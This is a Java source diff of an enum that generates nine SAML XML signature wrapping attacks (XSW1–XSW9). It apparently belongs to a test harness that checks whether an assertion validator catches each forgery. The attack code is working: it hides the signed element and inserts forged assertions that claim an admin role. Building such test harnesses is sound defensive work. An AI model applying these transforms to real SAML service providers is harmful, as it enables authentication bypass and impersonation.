@@ -1,8 +1,14 @@
 package dev.credbroker.saml;
 
+import static dev.credbroker.saml.AssertionFlaw.ASSERTION_COUNT;
+import static dev.credbroker.saml.AssertionFlaw.UNEXPECTED_CONTENT;
 import static dev.credbroker.saml.Elements.PROTOCOL;
 import static dev.credbroker.saml.Elements.SIGNATURE;
+import static dev.credbroker.saml.Forgery.part;
+import static dev.credbroker.saml.Forgery.unsigned;
 
+import dev.credbroker.simulator.idp.SignedParts;
+import java.util.Set;
 import java.util.function.UnaryOperator;
 import org.w3c.dom.Document;
 import org.w3c.dom.Element;
@@ -10,129 +16,118 @@ import org.w3c.dom.Element;
 /**
  * Signature wrapping: the signed element is kept where the signature still finds it, and a forged one is put where a
  * reader looks. The eight classic forms, after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
- * (USENIX Security 2012), as SAML Raider performs them.
+ * (USENIX Security 2012), as SAML Raider performs them; and a ninth with a {@code SignedInfo} for each of the two
+ * (CVE-2019-3465 and its family).
  */
 enum Wrapping implements UnaryOperator<Document> {
-    XSW1(Signed.RESPONSE) {
+    XSW1(ASSERTION_COUNT, SignedParts.RESPONSE) {
         @Override
-        void wrap(Document document, Element response) {
-            Element original = withoutSignature(response);
-            direct(response, "Signature").appendChild(original);
-            forge(response);
+        void wrap(Element response) {
+            Element original = unsigned(response);
+            part(response, "Signature").appendChild(original);
+            Forgery.into(response);
         }
     },
-    XSW2(Signed.RESPONSE) {
+    XSW2(UNEXPECTED_CONTENT, SignedParts.RESPONSE) {
         @Override
-        void wrap(Document document, Element response) {
-            Element original = withoutSignature(response);
-            response.insertBefore(original, direct(response, "Signature"));
-            forge(response);
+        void wrap(Element response) {
+            Element original = unsigned(response);
+            response.insertBefore(original, part(response, "Signature"));
+            Forgery.into(response);
         }
     },
-    XSW3(Signed.ASSERTION) {
+    XSW3(ASSERTION_COUNT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
-            response.insertBefore(forge(withoutSignature(assertion)), assertion);
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            response.insertBefore(Forgery.of(assertion), assertion);
         }
     },
-    XSW4(Signed.ASSERTION) {
+    XSW4(UNEXPECTED_CONTENT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
-            Element forged = forge(withoutSignature(assertion));
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            Element forged = Forgery.of(assertion);
             response.appendChild(forged);
             forged.appendChild(assertion);
         }
     },
-    XSW5(Signed.ASSERTION) {
+    XSW5(ASSERTION_COUNT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
-            response.appendChild(withoutSignature(assertion));
-            forge(assertion);
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            response.appendChild(unsigned(assertion));
+            Forgery.into(assertion);
         }
     },
-    XSW6(Signed.ASSERTION) {
+    XSW6(ASSERTION_COUNT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
-            Element original = withoutSignature(assertion);
-            direct(assertion, "Signature").appendChild(original);
-            forge(assertion);
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            Element original = unsigned(assertion);
+            part(assertion, "Signature").appendChild(original);
+            Forgery.into(assertion);
         }
     },
-    XSW7(Signed.ASSERTION) {
+    XSW7(UNEXPECTED_CONTENT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
             Element extensions = Edits.newElement(response, PROTOCOL, "samlp:Extensions");
             response.insertBefore(extensions, assertion);
-            Element forged = forge(withoutSignature(assertion));
+            Element forged = Forgery.of(assertion);
             forged.setAttribute("ID", assertion.getAttribute("ID"));
             extensions.appendChild(forged);
         }
     },
-    XSW8(Signed.ASSERTION) {
+    XSW8(ASSERTION_COUNT, SignedParts.ASSERTION) {
         @Override
-        void wrap(Document document, Element response) {
-            Element assertion = direct(response, "Assertion");
-            Element original = withoutSignature(assertion);
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            Element original = unsigned(assertion);
             Element object = Edits.newElement(response, SIGNATURE, "ds:Object");
-            direct(assertion, "Signature").appendChild(object);
+            part(assertion, "Signature").appendChild(object);
             object.appendChild(original);
-            forge(assertion);
+            Forgery.into(assertion);
+        }
+    },
+    XSW9(UNEXPECTED_CONTENT, SignedParts.ASSERTION) {
+        @Override
+        void wrap(Element response) {
+            Element assertion = part(response, "Assertion");
+            Element wrapper = Edits.newElement(response, "urn:wrapper", "w:Wrapper");
+            wrapper.appendChild(unsigned(assertion));
+            response.insertBefore(wrapper, assertion);
+            Element signature = part(assertion, "Signature");
+            Element signedInfo = part(Forgery.signature(assertion), "SignedInfo");
+            signature.insertBefore(signedInfo, part(signature, "KeyInfo"));
+            Forgery.into(assertion);
         }
     };
 
-    /** What must carry a signature for the attack to make sense. */
-    enum Signed {
-        ASSERTION,
-        RESPONSE
+    private final AssertionFlaw reason;
+    private final SignedParts needed;
+
+    Wrapping(AssertionFlaw reason, SignedParts needed) {
+        this.reason = reason;
+        this.needed = needed;
     }
 
-    static final String FORGED_NAME = "mallory";
-
-    private final Signed needs;
-
-    Wrapping(Signed needs) {
-        this.needs = needs;
+    /** Which check sees it first. */
+    AssertionFlaw reason() {
+        return reason;
     }
 
-    boolean needs(Signed signed) {
-        return needs == signed;
+    /** What may carry signatures for the attack to make sense. */
+    Set<SignedParts> signed() {
+        return Set.of(needed, SignedParts.BOTH);
     }
 
-    abstract void wrap(Document document, Element response);
+    abstract void wrap(Element response);
 
     @Override
     public Document apply(Document document) {
-        wrap(document, document.getDocumentElement());
+        wrap(document.getDocumentElement());
         return document;
-    }
-
-    private static Element withoutSignature(Element element) {
-        Element copy = (Element) element.cloneNode(true);
-        copy.removeChild(direct(copy, "Signature"));
-        return copy;
-    }
-
-    /** Another identifier, another person, another role. */
-    private static Element forge(Element element) {
-        element.setAttribute("ID", "_evil");
-        set(element, "NameID", FORGED_NAME);
-        set(element, "AttributeValue", TrustedProvider.ROLE + "-Admin," + TrustedProvider.PROVIDER);
-        return element;
-    }
-
-    private static void set(Element below, String localName, String text) {
-        below.getElementsByTagNameNS("*", localName).item(0).setTextContent(text);
-    }
-
-    private static Element direct(Element parent, String localName) {
-        return Elements.children(parent).stream()
-                .filter(child -> localName.equals(child.getLocalName()))
-                .findFirst()
-                .orElseThrow();
     }
 }
